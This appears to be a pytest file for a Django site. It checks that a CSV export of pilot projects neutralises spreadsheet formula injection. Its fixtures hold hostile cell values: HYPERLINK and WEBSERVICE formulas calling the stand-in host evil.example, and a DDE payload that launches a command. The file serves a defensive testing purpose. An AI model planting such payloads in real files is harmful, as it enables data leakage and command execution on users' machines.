"""No cell of a CSV export runs as a formula when the file is opened in a spreadsheet.

The pilot export is the site's only CSV. Every piece of user text it carries (pilot,
business unit, owner, sponsor, best KPI, the gate criteria the office labels) starts
with each character a spreadsheet reads as a formula; every text cell must come out
neutralised and every number column must hold plain numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from gates.models import GateCriterion
from portfolio.models import Phase
from portfolio.pilot_csv import FORMULA_STARTS, HEADER
from tests.factories import BusinessUnitFactory, KpiFactory, KpiReadingFactory, PilotFactory, UserFactory

pytestmark = pytest.mark.usefixtures("frozen_today")

STARTS = ["=", "+", "-", "@", "\t", "\r"]
# Columns the export computes itself; a leading "-" there is a negative number, not a formula.
NUMBER_COLUMNS = {"Days in phase", "Phase limit (days)", "Budget", "Spent", "Best KPI progress to target (%)"}
NUMBER = re.compile(r"^(-?\d+(\.\d+)?)?$")


@pytest.fixture
def hostile_portfolio(db) -> dict[str, list[str]]:
    """A pilot per formula character, its user text all starting with it; the texts by column."""
    texts: dict[str, list[str]] = {"Pilot": [], "Business unit": [], "Best KPI": []}
    for number, start in enumerate(STARTS):
        pilot = PilotFactory(
            key=f"pilot-{number}",
            name=f'{start}HYPERLINK("http://evil.example/?{number}","Open")',
            business_unit=BusinessUnitFactory(name=f"{start}2+3 unit {number}"),
            owner=UserFactory(username=f"owner{number}", first_name=f"{start}owner", last_name=str(number)),
            sponsor=UserFactory(username=f"sponsor{number}", first_name=f"{start}cmd|' /C calc'!A0", last_name=""),
            phase=Phase.PRODUCTION,
        )
        kpi = KpiFactory(pilot=pilot, name=f"{start}SUM(A1:A9) {number}", baseline=50, target=80)
        KpiReadingFactory(kpi=kpi, value=65, source="api")
        texts["Pilot"].append(pilot.name)
        texts["Business unit"].append(pilot.business_unit.name)
        texts["Best KPI"].append(kpi.name)
    for criterion in GateCriterion.objects.filter(gate=Phase.PRODUCTION):
        criterion.label = f'=WEBSERVICE("http://evil.example/") {criterion.label}'
        criterion.save()
    return texts


def _export(client, who) -> list[dict[str, str]]:
    client.force_login(who)
    response = client.get(reverse("pilot_export"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_no_text_cell_starts_like_a_formula_and_number_cells_hold_numbers(client, executive, hostile_portfolio):
    rows = _export(client, executive)

    assert len(rows) == len(STARTS)
    assert list(rows[0]) == HEADER
    for row in rows:
        for column, cell in row.items():
            if column in NUMBER_COLUMNS:
                assert NUMBER.match(cell), f"{column}: {cell!r} is not a plain number"
            else:
                assert not cell.startswith(FORMULA_STARTS), f"{column}: {cell!r} would run as a formula"


def test_the_hostile_text_is_kept_behind_an_apostrophe(client, executive, hostile_portfolio):
    rows = _export(client, executive)

    for column, texts in hostile_portfolio.items():
        assert sorted(row[column] for row in rows) == sorted(f"'{text}" for text in texts), column
    # Names (Django strips a leading tab or line break from a full name) and the office's labels.
    assert {row["Owner"][:2] for row in rows} >= {"'=", "'+", "'-", "'@"}
    assert {row["Sponsor"][:2] for row in rows} >= {"'=", "'+", "'-", "'@"}
    assert all(row["Unmet criteria of the next gate"].startswith("'=WEBSERVICE") for row in rows)
